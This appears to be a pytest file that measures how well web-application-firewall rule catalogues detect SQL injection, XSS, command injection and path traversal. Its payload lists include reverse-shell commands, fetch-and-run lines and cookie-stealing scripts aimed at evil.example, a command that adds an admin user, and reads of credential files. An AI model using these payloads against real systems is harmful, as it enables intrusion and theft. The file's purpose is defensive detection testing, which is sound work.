"""Detection quality of the managed-rule catalogues on traffic they were not tuned on.

Two sources of attacks: generated traffic from a held-out seed, and a
hand-written list of well-known public payloads (below), which was not used
while the rules were written. Rates are printed (``pytest -s``) as a table.
"""

from __future__ import annotations

from collections import Counter

from conftest import HELD_OUT_SEED
from fields import request_fields
from verdicts import NEW_CATALOG, OLD_CATALOG, NewSystem, OldSystem, load

from workbench.traffic.generators import RawRequest, generate
from workbench.traffic.placements import placements

CLASSES = ("sqli", "xss", "cmdi", "traversal")
BENIGN = ("benign", "api", "bot")

# Well-known strings from public payload lists, one per line, written from memory of
# those lists. Each is sent in a query argument, a form body and a JSON body.
PUBLIC = {
    "sqli": r"""
' OR 1=1--
' OR '1'='1
" OR "1"="1
' OR 1=1#
' OR 1=1/*
admin'--
admin' #
admin'/*
') OR ('1'='1
')) OR (('1'='1
' OR 'x'='x
" OR ""="
1' ORDER BY 1--+
1' ORDER BY 3--+
1' GROUP BY 1,2,--+
' UNION SELECT NULL--
' UNION SELECT NULL,NULL,NULL--
1 UNION ALL SELECT 1,2,3--
' UNION SELECT username, password FROM users--
-1' UNION SELECT 1,@@version,3-- -
1' AND 1=1--
1' AND 1=2--
1 AND 1=1
1 OR 1=1
' AND SLEEP(5)--
1' AND SLEEP(5) AND '1'='1
'; WAITFOR DELAY '0:0:5'--
1; SELECT pg_sleep(5)--
' OR pg_sleep(5)--
1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)
' AND extractvalue(1,concat(0x7e,version()))--
' AND updatexml(1,concat(0x7e,user()),1)--
' AND 1=CONVERT(int,@@version)--
1'; DROP TABLE users--
'; EXEC xp_cmdshell('dir')--
' HAVING 1=1--
' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--
1 AND (SELECT COUNT(*) FROM information_schema.tables)>0
' OR EXISTS(SELECT * FROM users)--
1' or '1'='1'/*
' or 1 like 1--
' or ''='
'or''='
" or 1=1--
or 1=1--
' OR 1 -- -
1' UNION/**/SELECT/**/1,2,3--
1'/**/OR/**/1=1--
admin' or '1'='1'#
1 AND benchmark(5000000,MD5(1))
' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--
%27%20OR%201%3D1--
1%27%20UNION%20SELECT%201,2,3--
' UnIoN SeLeCt 1,2,3--
1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3
' || '1'='1
1)) OR 1=1--
' OR 'a'='a' --
""",
    "xss": r'''
<script>alert(1)</script>
<script>alert('XSS')</script>
<ScRiPt>alert(1)</ScRiPt>
"><script>alert(document.cookie)</script>
'><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert('XSS')>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=javascript:alert('XSS')>
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>">
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<svg/onload=alert(1)>
<svg onload=alert(1)>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">click</a>
javascript:alert(1)
javascript:alert(document.domain)
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<video><source onerror="alert(1)">
<audio src=x onerror=alert(1)>
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<svg><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
"onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
';alert(1)//
";alert(1)//
'-alert(1)-'
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<SCRIPT>alert("XSS");//<</SCRIPT>
<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>
<BODY BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<DIV STYLE="width: expression(alert('XSS'));">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<TABLE BACKGROUND="javascript:alert('XSS')">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<BASE HREF="javascript:alert('XSS');//">
{{constructor.constructor('alert(1)')()}}
<form action="javascript:alert(1)"><input type=submit>
<button formaction=javascript:alert(1)>x</button>
<a href="javascript&colon;alert(1)">x</a>
<x onclick=alert(1)>click me
<img src=1 onerror=confirm(1)>
<sVg/oNlOad=prompt(1)>
%3Cscript%3Ealert(1)%3C/script%3E
''',
    "cmdi": r"""
;id
|id
||id
&&id
`id`
$(id)
;ls -la
| ls -la
;cat /etc/passwd
| cat /etc/passwd
&& cat /etc/passwd
; whoami
| whoami
& whoami
`whoami`
$(whoami)
;uname -a
|uname -a
; sleep 5
| sleep 5
& ping -c 10 127.0.0.1 &
|| ping -c 10 127.0.0.1
; ping -n 10 127.0.0.1
%0aid
%0acat%20/etc/passwd
;netstat -an
; ifconfig
& ipconfig /all
| dir c:\
& dir
| type C:\Windows\win.ini
& net user
;nc -e /bin/sh 10.0.0.1 4444
; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
; wget http://evil.example/shell.sh -O /tmp/s; sh /tmp/s
| curl http://evil.example/x | sh
;echo vulnerable
a;id;
127.0.0.1; cat /etc/passwd
127.0.0.1 && whoami
127.0.0.1 | id
cat$IFS/etc/passwd
;cat${IFS}/etc/passwd
;{cat,/etc/passwd}
;c'a't /etc/passwd
;w'h'o'am'i
() { :;}; /bin/bash -c "cat /etc/passwd"
; /usr/bin/id
|/bin/ls -al
;system('id')
; powershell -c whoami
& cmd /c whoami
""",
    "traversal": r"""
../../../../etc/passwd
../../../../../../etc/passwd
../../../../../../../../etc/passwd%00
..\..\..\..\windows\win.ini
..%2f..%2f..%2f..%2fetc%2fpasswd
%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
%2e%2e/%2e%2e/%2e%2e/etc/passwd
..%252f..%252f..%252fetc%252fpasswd
%252e%252e%252f%252e%252e%252fetc%252fpasswd
....//....//....//etc/passwd
..././..././..././etc/passwd
..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
..%5c..%5c..%5cwindows%5cwin.ini
..%255c..%255c..%255cwindows%255cwin.ini
/etc/passwd
/etc/shadow
/etc/hosts
/proc/self/environ
/proc/self/cmdline
C:\Windows\win.ini
C:\boot.ini
c:/windows/system32/drivers/etc/hosts
../../../../../../../../../../boot.ini
../../../var/log/apache2/access.log
../../../../../var/log/nginx/error.log
..\..\..\..\..\inetpub\wwwroot\web.config
../WEB-INF/web.xml
/..;/..;/WEB-INF/web.xml
php://filter/convert.base64-encode/resource=index.php
php://filter/read=string.rot13/resource=config.php
php://input
file:///etc/passwd
file://c:/windows/win.ini
expect://id
data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==
zip://shell.jpg%23payload.php
phar://./uploads/avatar.jpg/shell.php
http://evil.example/shell.txt?
https://203.0.113.10/shell.php
\\203.0.113.10\share\shell.php
/var/www/html/../../../../etc/passwd
../../../../etc/passwd%00.jpg
....\\....\\....\\windows\\win.ini
..%u2216..%u2216windows%u2216win.ini
..%u2215..%u2215etc%u2215passwd
%2e%2e%5c%2e%2e%5cwindows%5cwin.ini
/./././././././etc/passwd
""",
}

# A second list, written after the catalogues were finished and run once, as they are.
PUBLIC_FRESH = {
    "sqli": r"""
1' and 1=1 #
1" and "1"="1
' or true--
') or true--
admin") or ("1"="1
1 or sleep(3)#
' or sleep(3)='
1) or sleep(3)#
" or sleep(3)="
'||(SELECT 0x414243 WHERE 1=1)||'
1;SELECT * FROM users
1 AND (SELECT 2>1)
' AND (SELECT 4523 FROM(SELECT COUNT(*),CONCAT(0x7171787671,(SELECT (ELT(4523=4523,1))),0x71707a7871,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)--
1' AND 5650=CONVERT(INT,(SELECT CHAR(113)+CHAR(106)))--
' UNION ALL SELECT NULL,NULL,NULL,NULL#
-1 UNION SELECT table_name FROM information_schema.tables WHERE table_schema=database()
' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055
1' WAITFOR DELAY '0:0:10'--
';shutdown --
1 OR 1=1 LIMIT 1
' OR username LIKE '%admin%
%' AND 1=1 AND '%'='
1' AND MID(VERSION(),1,1) = '5'--
' AND substring(@@version,1,1)=5--
1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)
' or 0=0 --
" or 0=0 --
or 0=0 #
' or 'one'='one
' or 2 > 1 --
""",
    "xss": r"""
<img src="x" onerror="alert(document.domain)">
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<iframe srcdoc="<script>alert(1)</script>">
<img src=x:alert(alt) onerror=eval(src) alt=0>
<a href=javascript:alert(1)>x</a>
<body onpageshow=alert(1)>
<style onload=alert(1)>
<keygen autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<img src=x onerror=\u0061lert(1)>
<svg onload=&#97;&#108;&#101;&#114;&#116;(1)>
"><img src=x onerror=alert(String.fromCharCode(88,83,83))>
javascript://%0aalert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<script>fetch('//evil.example/?c='+document.cookie)</script>
<img src=x onerror=this.src='//evil.example/?'+document.cookie>
<div onmouseover="alert(1)">hover</div>
<a onmouseover=alert(1)>x</a>
<svg><set onbegin=alert(1) attributename=x>
'"><svg/onload=alert(1)>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
"-prompt(1)-"
\";alert(1);//
${alert(1)}
{{$on.constructor('alert(1)')()}}
<img src=1 onerror=window['al'+'ert'](1)>
<iframe onload=alert(1)>
<body onresize=alert(1)>
""",
    "cmdi": r"""
;id;
|| whoami
&& ls -la /
; cat /etc/shadow
`cat /etc/passwd`
$(cat /etc/passwd)
; uname -a;
| nslookup evil.example
; curl evil.example
& nslookup evil.example &
;ping${IFS}-c${IFS}3${IFS}127.0.0.1
;ls${IFS}-la
a|cat /etc/hosts
1;sleep 10
1|sleep 10
; rm -rf /tmp/x
; python -c 'import os;os.system("id")'
; perl -e 'system("id")'
; php -r 'system("id");'
|| type %SYSTEMROOT%\win.ini
& systeminfo
| tasklist
& whoami /all
; ncat 10.0.0.1 4444 -e /bin/bash
$(sleep 5)
`sleep 5`
| echo $PATH
;env
;/bin/cat /etc/passwd
&& /usr/bin/whoami
""",
    "traversal": r"""
../../../../../../etc/shadow
..//..//..//..//etc/passwd
..\/..\/..\/etc/passwd
.%2e/.%2e/.%2e/.%2e/etc/passwd
%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini
..%c1%9c..%c1%9c..%c1%9cboot.ini
%252e%252e%255cwindows%255cwin.ini
../../../../../../proc/self/environ
../../../../../../proc/version
....//....//....//....//etc/hosts
../../../../../../etc/passwd%2500
/etc/passwd%00.png
../../../../../usr/local/apache2/conf/httpd.conf
../../../../etc/nginx/nginx.conf
../../../../../root/.ssh/id_rsa
../../../../home/user/.bash_history
../config/database.yml
../../.env
..\..\..\..\windows\system32\drivers\etc\hosts
c:\windows\system32\config\sam
php://filter/resource=/etc/passwd
php://filter/convert.base64-encode/resource=../config.php
file:///c:/windows/win.ini
http://203.0.113.20/evil.txt
//evil.example/shell.txt?
/%2e%2e/%2e%2e/%2e%2e/etc/passwd
..;/..;/..;/etc/passwd
../../../../../../../../windows/win.ini%00
""",
}

# A third list: spellings the catalogues missed when they first met the Intruder lists of
# PayloadsAllTheThings (swisskyrepo/PayloadsAllTheThings: dotdotpwn's encodings, bare
# commands, entity-split URIs, scriptlets). Each line stands for a technique the rules now
# detect; the single-level and bare ones are logged (flagged), not blocked, as in the catalogues.
PUBLIC_ENCODED = {
    "traversal": r"""
0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd
..0x5c..0x5c..0x5cwindows0x5cwin.ini
%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fetc%c0%2fpasswd
%c0%2e%c0%2e\%c0%2e%c0%2e\boot.ini
..%c0%5c..%c0%5c..%c0%5cwindows%c0%5cwin.ini
..%uF025..%uF025..%uF025etc%uF025passwd
..%uEFC8..%uEFC8..%uEFC8windows%uEFC8win.ini
%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
..%f8%80%80%80%af..%f8%80%80%80%afetc%f8%80%80%80%afpasswd
%fc%80%80%80%80%ae%fc%80%80%80%80%ae%f0%80%80%af%fc%80%80%80%80%ae%fc%80%80%80%80%ae%f0%80%80%afetc%f0%80%80%afpasswd
..%c1%8s..%c1%8s..%c1%8setc%c1%8sissue
..%%32%%66..%%32%%66..%%32%%66etc%%32%%66passwd
??%c1%af??%c1%afetc%c1%afpasswd
/var/adm/pacct
/opt/xampp/logs/access.log
C:\xampp\apache\conf\httpd.conf
C:/Windows/Panther/Unattend.xml
/usr/local/apache2/conf/httpd.conf
""",
    "cmdi": r"""
whoami
ipconfig /all
netstat -an
uname -a
net user hacker Password1 /ADD
ls -l /etc/
dir C:\Users
which wget
sleep 5
;system('/usr/bin/id')
${@print(md5(RCEVulnerable))}
;{$_GET["cmd"]}
<!--#exec cmd="/usr/bin/id;-->
w'h'o'am'i
who$@ami
wh""oami
cat ${HOME:0:1}etc${HOME:0:1}passwd
{,ip,a}
echo whoami|$0
""",
    "sqli": r"""
'-'
'&'
" or ""-"
or true--
" or true--
admin" #
admin"/*
 like '%'
""",
    "xss": r"""
<iframe src=j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&Tab;:a&Tab;l&Tab;e&Tab;r&Tab;t&Tab;%28&Tab;1&Tab;%29></iframe>
<a href=javascript&colon;alert&lpar;document&period;cookie&rpar;>Click Here</a>
<OBJECT TYPE="text/x-scriptlet" DATA="http://ha.ckers.org/scriptlet.html"></OBJECT>
<embed code="http://businessinfo.co.uk/labs/xss/xss.swf" allowscriptaccess=always>
<STYLE>@import'http://ha.ckers.org/xss.css';</STYLE>
<STYLE TYPE="text/javascript">alert('XSS');</STYLE>
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
<BR SIZE="&{alert('XSS')}">
<LAYER SRC="http://ha.ckers.org/scriptlet.html"></LAYER>
<XML SRC="http://ha.ckers.org/xsstest.xml" ID=I></XML>
al\u0065rt(1)
alert&#x28;1&#x29
\j\av\a\s\cr\i\pt\:\a\l\ert\(1\)
[8].find(alert)
eval('ale'+'rt(0)')
Function("ale"+"rt(1)")();
top['alert'](3)
alert`1`
Set.constructor`al\x65rt\x2814\x29```
""",
}

# The multi-level traversals above (one per encoding of the dots and slashes) are blocked.
ENCODED_TRAVERSALS = 13

# Ordinary text that looks a little like the above, from the same kind of hand-written list.
PUBLIC_BENIGN = r"""
O'Brien
select a plan
drop shipping
I <3 my cat
rock & roll
it's 5 o'clock somewhere
"quoted phrase" search
tom & jerry
where is my order?
cats and dogs
1 + 1 = 2
best value, or best price?
update my address
delete account
union square
javascript tutorial for beginners
script writing
C:/Users/me/Documents/report.pdf
50% off
email me at a.b@example.org
price >= 10 and price <= 50
yes or no
he said: "hello"
#hashtag
don't stop
the end; of the story
sleep well
powershell
uname
netstat
npm run build -- --watch
who am i
"yes" or "no"
#fff
"""


def lines(text: str) -> list[str]:
    return [s for s in text.strip("\n").split("\n") if s.strip()]


def rates(results: list[tuple[str, bool, bool]]) -> dict[str, tuple[int, float, float]]:
    n, f, b = Counter(), Counter(), Counter()
    for label, flagged, blocked in results:
        n[label] += 1
        f[label] += flagged
        b[label] += blocked
    return {k: (n[k], f[k] / n[k], b[k] / n[k]) for k in n}


def table(title: str, r: dict[str, tuple[int, float, float]]) -> None:
    print(f"\n{title}")
    for k, (n, fl, bl) in sorted(r.items()):
        print(f"  {k:10s} n={n:5d}  flagged {fl:6.1%}  blocked {bl:6.1%}")


def test_new_system_on_held_out_generated_traffic(new_system: NewSystem, held_out):
    results = []
    for label, fields in held_out:
        v = new_system.verdict(fields)
        results.append((label, v.flagged, v.blocked))
    r = rates(results)
    table(f"new system PL2/40, generated seed {HELD_OUT_SEED}", r)
    for cls in CLASSES:
        n, flagged, blocked = r[cls]
        assert n >= 2000
        assert flagged >= 0.90, (cls, flagged)
        assert blocked >= 0.70, (cls, blocked)
    benign = [x for x in results if x[0] in BENIGN]
    assert len(benign) >= 5000
    assert sum(b for _, _, b in benign) / len(benign) < 0.01


def test_new_system_on_public_payloads(new_system: NewSystem):
    check_public(new_system, PUBLIC, "public payloads")


def test_new_system_on_fresh_public_payloads(new_system: NewSystem):
    check_public(new_system, PUBLIC_FRESH, "a second public list, never tuned on")


def test_encoded_and_bare_payloads_are_flagged_by_both_systems(
    new_system: NewSystem, old_system: OldSystem
):
    for name, system in (("new", new_system), ("old", old_system)):
        results = []
        for cls, text in PUBLIC_ENCODED.items():
            for i, payload in enumerate(lines(text)):
                for raw in placements(payload, i):
                    v = system.verdict(request_fields(raw))
                    results.append((cls, v.flagged, v.blocked))
        r = rates(results)
        table(f"{name} system, encoded and bare payloads", r)
        for cls in PUBLIC_ENCODED:
            assert r[cls][1] >= 0.95, (name, cls, r[cls])


def test_multi_level_traversal_is_blocked_in_every_encoding(new_system: NewSystem):
    traversals = lines(PUBLIC_ENCODED["traversal"])[:ENCODED_TRAVERSALS]
    missed = [
        (payload, raw.method)
        for i, payload in enumerate(traversals)
        for raw in placements(payload, i)
        if not new_system.verdict(request_fields(raw)).blocked
    ]
    assert missed == []


def check_public(new_system: NewSystem, lists: dict[str, str], title: str) -> None:
    results, missed = [], []
    for cls, text in lists.items():
        for i, payload in enumerate(lines(text)):
            for raw in placements(payload, i):
                v = new_system.verdict(request_fields(raw))
                results.append((cls, v.flagged, v.blocked))
                if not v.blocked:
                    missed.append((cls, payload, v.flagged))
    for i, text in enumerate(lines(PUBLIC_BENIGN)):
        for raw in placements(text, i):
            v = new_system.verdict(request_fields(raw))
            results.append(("benign", v.flagged, v.blocked))
    r = rates(results)
    table(f"new system PL2/40, {title} (query, form and JSON placements)", r)
    print("  not blocked:", sorted({(c, p, f) for c, p, f in missed}))
    for cls in CLASSES:
        _, flagged, blocked = r[cls]
        assert flagged >= 0.90, (cls, flagged)
        assert blocked >= 0.70, (cls, blocked)
    assert r["benign"][2] < 0.01


def test_old_system_detects_by_the_same_techniques(old_system: OldSystem, held_out):
    per_label: Counter[str] = Counter()
    results = []
    for label, fields in held_out:
        if per_label[label] >= 250:
            continue
        per_label[label] += 1
        v = old_system.verdict(fields)
        results.append((label, v.flagged, v.mitigated))
    r = rates(results)
    table(
        "previous version, defaults (OWASP High = 25, action challenge); 'blocked' = block or challenge",
        r,
    )
    for cls in CLASSES:
        assert r[cls][1] >= 0.80, (cls, r[cls])
    benign = [x for x in results if x[0] in BENIGN]
    # CRS 2.2.9 at High (25) challenges 2.8% of the generated legitimate traffic (measured:
    # 21 of 750, mostly SQL rules on free text); the hand-written package stayed under 2%.
    assert sum(m for _, _, m in benign) / len(benign) < 0.04


def test_an_owasp_event_needs_the_threshold(new_system: NewSystem):
    fields = request_fields(placements("' OR 1=1--", 0)[0])
    score, hits = new_system.owasp_score(fields)
    assert 0 < score and hits
    lenient = NewSystem(paranoia=2, threshold=10_000)
    assert lenient.verdict(fields).flagged  # still flagged: Cloudflare Managed Ruleset rules
    v = new_system.verdict(fields, full=True)
    assert 0 < v.score < 40 and "949110: Inbound Anomaly Score Exceeded" not in v.hits
    strict = NewSystem(paranoia=2, threshold=v.score)
    assert "949110: Inbound Anomaly Score Exceeded" in strict.verdict(fields, full=True).hits


def test_paranoia_level_3_catches_what_level_2_misses(new_system: NewSystem):
    pl3 = NewSystem(paranoia=3, threshold=40)
    # CRS 3.3: four closing brackets (942460, a PL3 rule) and a repeated parameter (921180).
    for probe in ("https://www.example.com/run?x=))))", "https://www.example.com/s?a=1&a=2"):
        raw = RawRequest(
            "GET",
            probe,
            {"User-Agent": "Mozilla/5.0", "Accept": "*/*"},
            "",
            "192.0.2.1",
            "US",
            7922,
            "probe",
        )
        fields = request_fields(raw)
        v2 = new_system.verdict(fields, full=True)
        assert not v2.flagged and v2.score == 0, v2.hits
        score3, hits3 = pl3.owasp_score(fields)
        assert score3 > 0, probe
        levels = {r.paranoia_level for r in pl3.active_owasp if r.description in hits3}
        assert levels == {3}
        assert not pl3.verdict(fields).flagged  # a few points stay far below 40: no event


def test_old_high_sensitivity_acts_where_the_migrated_threshold_does_not(new_system: NewSystem):
    # High sensitivity (25) migrates to PL2 with threshold 40: a classic probe that made the
    # old OWASP package act now only scores, and the Cloudflare Managed Ruleset blocks it.
    # (CRS 2.2.9 scores it 28, CRS 3.3 at PL2 30.)
    fields = request_fields(placements("1' OR '1'='1", 0)[0])
    old = OldSystem(sensitivity="high").verdict(fields)
    assert old.score >= 25 and "981176: OWASP anomaly score exceeded" in old.hits
    assert OldSystem(sensitivity="medium").verdict(fields).score < 40
    new = new_system.verdict(fields, full=True)
    assert 0 < new.score < 40 and "949110: Inbound Anomaly Score Exceeded" not in new.hits
    assert new.blocked


def test_rules_only_one_side_has():
    cmr = load(NEW_CATALOG / "cloudflare_managed.json")
    old = load(OLD_CATALOG)
    mapped = {r["new_id"] for g in old["packages"][0]["groups"] for r in g["rules"] if r["new_id"]}
    new_only = [r for r in cmr["rules"] if r["id"] not in mapped]
    old_only = [r for g in old["packages"][0]["groups"] for r in g["rules"] if r["new_id"] is None]
    assert len(new_only) >= 3 and len(old_only) >= 3
    assert mapped <= {r["id"] for r in cmr["rules"]}

    new, old_sys = NewSystem(), OldSystem()
    ua = {"User-Agent": "Mozilla/5.0", "Accept": "*/*"}
    confluence = RawRequest(
        "GET",
        "https://www.example.com/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
        ua,
        "",
        "203.0.113.5",
        "US",
        14061,
        "cms",
    )
    f = request_fields(confluence)
    assert new.verdict(f).blocked
    assert not old_sys.verdict(f).flagged

    legacy_client = RawRequest(
        "GET",
        "https://www.example.com/catalog?page=2",
        {"User-Agent": "libwww-perl/6.67", "Accept": "*/*"},
        "",
        "203.0.113.6",
        "US",
        14061,
        "bot",
    )
    f = request_fields(legacy_client)
    v_old = old_sys.verdict(f)
    assert v_old.flagged and v_old.mitigated and any(h.startswith("100013:") for h in v_old.hits)
    assert not new.verdict(f).flagged


def test_cms_groups_off_in_the_old_package_are_on_in_the_new_ruleset():
    revslider = RawRequest(
        "GET",
        "https://www.example.com/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
        {"User-Agent": "Mozilla/5.0", "Accept": "*/*"},
        "",
        "203.0.113.7",
        "US",
        14061,
        "cms",
    )
    f = request_fields(revslider)
    assert (
        "WordPress - Revolution Slider - File Inclusion" in NewSystem().verdict(f, full=True).hits
    )
    assert not any("Revolution Slider" in h for h in OldSystem().verdict(f).hits)
    with_wordpress = OldSystem(
        groups_on={"Cloudflare Specials", "WordPress", "Apache", "PHP", "Miscellaneous"}
    )
    assert any("Revolution Slider" in h for h in with_wordpress.verdict(f).hits)


def test_scanner_and_cms_traffic_is_caught(new_system: NewSystem, held_out):
    results = [
        (lbl, *(lambda v: (v.flagged, v.blocked))(new_system.verdict(f)))
        for lbl, f in held_out
        if lbl in ("scanner", "cms")
    ]
    r = rates(results)
    table("new system PL2/40, scanners and CMS exploits", r)
    assert r["scanner"][1] >= 0.9 and r["cms"][1] >= 0.9


def test_a_second_seed_gives_the_same_picture(new_system: NewSystem):
    reqs = generate(
        1200,
        seed=HELD_OUT_SEED + 1,
        mix={"sqli": 1, "xss": 1, "cmdi": 1, "traversal": 1, "benign": 2},
    )
    r = rates(
        [
            (q.label, *(lambda v: (v.flagged, v.blocked))(new_system.verdict(request_fields(q))))
            for q in reqs
        ]
    )
    for cls in CLASSES:
        assert r[cls][1] >= 0.9 and r[cls][2] >= 0.7
    assert r["benign"][2] < 0.01
